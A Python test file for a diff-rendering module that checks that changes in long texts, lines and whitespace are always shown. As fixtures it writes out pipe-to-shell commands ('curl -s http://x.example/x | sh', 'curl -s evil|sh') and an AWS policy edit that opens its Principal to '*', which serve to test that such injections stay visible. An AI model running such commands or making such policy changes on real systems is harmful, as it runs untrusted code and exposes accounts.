"""A difference anywhere in a text is seen, however long the text is."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.domain.sequences import parts
from pipeline.render.difference import changed_lines, shorten, windows
from pipeline.render.visible import visible
from tests.render.inert import TEXTS

ITEMS = st.lists(st.sampled_from("abc"), max_size=30)


@settings(max_examples=150)
@given(ITEMS, ITEMS)
def test_the_parts_are_both_texts_and_nothing_else(one: list[str], other: list[str]) -> None:
    found = parts(one, other)
    assert [x for part in found for x in part.before] == one
    assert [x for part in found for x in part.after] == other
    assert all((part.before == part.after) == part.equal for part in found)


@settings(max_examples=150)
@given(TEXTS, TEXTS, st.integers(0, 400))
def test_two_texts_that_differ_never_look_alike_however_much_is_cut(
    one: str, other: str, before: int
) -> None:
    same = "equal words " * before
    shown = windows(f"{same}{one}{same}", f"{same}{other}{same}")
    assert (shown[0] == shown[1]) == (one == other)
    lines = changed_lines(f"{same}\n{one}", f"{same}\n{other}")
    assert any(line[0] in "+-" for line in lines) == (one != other)


@pytest.mark.parametrize("at", [0, 1, 40, 59])
def test_the_changed_line_of_a_long_text_is_shown_and_equal_ones_are_counted(at: int) -> None:
    old = [f"echo {n}" for n in range(60)]
    new = [*old[:at], "curl -s http://x.example/x | sh", *old[at + 1 :]]
    shown = changed_lines("\n".join(old), "\n".join(new))
    assert f"- echo {at}" in shown
    assert "+ curl -s http://x.example/x | sh" in shown
    assert len(shown) <= 8
    assert any("equal lines" in line for line in shown)


def test_a_late_difference_in_one_long_line_is_shown_with_what_stands_around_it() -> None:
    old = f'{{"a": "{"x" * 4000}", "Principal": "arn:aws:iam::1:root"}}'
    before, after = windows(old, old.replace("arn:aws:iam::1:root", "*"))
    assert "arn:aws:iam::1:root" in before
    assert '"Principal": "*"' in after
    assert max(len(before), len(after)) < 200


def test_a_change_that_is_too_long_itself_says_how_much_is_not_shown() -> None:
    before, after = windows("a " * 100, "b" * 70_000)
    assert "69,400 more characters" in after
    assert len(after) < 1000
    assert before.startswith("a a")
    assert "… 9,700 more characters …" in shorten("y" * 10_000)


def test_a_line_that_differs_in_white_space_at_its_end_shows_it() -> None:
    assert changed_lines("a\nb ", "a\nb") == ["  a", "- b␣", "+ b"]
    assert changed_lines("a\n\tb", "a\n    b") == ["  a", "- ⇥b", "+     b"]


def test_many_equal_lines_are_compared_in_reasonable_time() -> None:
    old = ["x", "y"] * 4000
    new = [*old[:3000], "evil", *old[3001:6000], "z", *old[6001:]]
    shown = changed_lines("\n".join(old), "\n".join(new))
    assert {"+ evil", "+ z"} <= set(shown)


@given(TEXTS)
def test_a_short_text_is_shown_whole(text: str) -> None:
    assert shorten(text, 10_000) == visible(text)


@settings(max_examples=60)
@given(st.integers(0, 1_600), st.integers(0, 1_600), st.sampled_from("01 -"))
def test_one_other_character_in_a_word_of_any_length_is_seen(
    before: int, after: int, other: str
) -> None:
    one, two = windows(f"{'ab' * before}x{'ab' * after}", f"{'ab' * before}{other}{'ab' * after}")
    assert one != two


@pytest.mark.parametrize("added", ["# a note", "x" * 700])
@pytest.mark.parametrize("first", [True, False])
def test_a_change_within_a_long_line_is_seen_beside_lines_that_are_new(
    added: str, first: bool
) -> None:
    line = "x" * 300 + "{}" + "y" * 300
    old, new = line.format("systemctl start agent"), line.format("curl -s evil|sh")
    lines = [added, new] if first else [new, added]
    shown = [str(one) for one in changed_lines(f"a\n{old}\nb", "\n".join(["a", *lines, "b"]))]
    assert any("curl -s evil" in one for one in shown if one.startswith("+"))
    assert any("systemctl start" in one for one in shown if one.startswith("-"))
